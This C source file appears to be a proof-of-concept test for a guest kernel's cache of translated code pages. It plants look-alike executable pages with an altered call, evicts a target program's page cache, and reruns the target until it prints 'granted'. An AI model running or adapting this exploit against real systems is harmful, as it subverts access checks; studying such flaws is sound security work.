/*
 * The guest kernel keeps copies of pages of code, with gates in the place of their calls. This
 * makes files of pages that are the judge's but for a call, has each of them copied, gives the
 * pages back and has the judge's read anew: `copies JUDGE` runs it after each turn and prints
 * what it says last. It is `granted` if the copy of another file's page was believed.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#define PAGE 4096L
#define PAGES 500
#define TURNS 8
/* Where the judge is linked to lie: nothing of this program does. */
#define LINKED_AT 0x10000000L
#define JUDGE_AT 0x800

static unsigned char page[PAGE];

/* Without what it needs this shows nothing. */
static void need(int is_there, const char *what)
{
	if (is_there)
		return;
	perror(what);
	exit(2);
}

/* Where in @file the judge's page begins, which is read. */
static long find_page(int file)
{
	const unsigned char first[] = { 0xb8, 39, 0, 0, 0, 0x48, 0xc7, 0xc3, 1, 0, 0, 0 };

	for (long at = 0; pread(file, page, PAGE, at) == PAGE; at += PAGE)
		if (!memcmp(page + JUDGE_AT, first, sizeof(first)))
			return at;
	fputs("the judge has no such page\n", stderr);
	exit(2);
}

/* Executes each of the pages of a file at @address, twice: then they have copies. Gives the
   judge's page back, and those of the file after it: the next to be read is in one of them. */
static void have_copied(void *address, int judge)
{
	const unsigned char call[] = { 0x0f, 0x05, 0x48, 0xc7, 0xc3, 0, 0, 0, 0 };
	char name[] = "/tmp/pagesXXXXXX";
	int file = mkstemp(name);

	need(file >= 0, name);
	memcpy(page + JUDGE_AT + 5, call, sizeof(call));
	for (int i = 0; i < PAGES; i++)
		need(write(file, page, PAGE) == PAGE, "a page");
	need(!fsync(file), name);
	close(file);
	file = open(name, O_RDONLY);
	need(file >= 0, name);
	for (int i = 0; i < PAGES; i++) {
		need(mmap(address, PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED, file,
			  i * PAGE) == address, "a mapping");
		for (int k = 0; k < 2; k++)
			__asm__ volatile("call *%0"
					 :
					 : "r"((char *)address + JUDGE_AT)
					 : "rax", "rbx", "rcx", "r11", "memory");
	}
	munmap(address, PAGE);
	close(file);
	posix_fadvise(judge, 0, 0, POSIX_FADV_DONTNEED);
	need(!truncate(name, 0), name);
	unlink(name);
}

int main(int argc, char **argv)
{
	int judge = open(argv[argc - 1], O_RDONLY);
	char said[32] = "";

	for (int turn = 0; turn < TURNS && strcmp(said, "granted\n"); turn++) {
		long at = find_page(judge);
		FILE *judged;

		have_copied((void *)(LINKED_AT + at), judge);
		need(pread(judge, page, sizeof(page), at) == sizeof(page), argv[argc - 1]);
		judged = popen(argv[argc - 1], "r");
		need(judged && fgets(said, sizeof(said), judged), "a judgement");
		pclose(judged);
	}
	fputs(said, stdout);
	return 0;
}
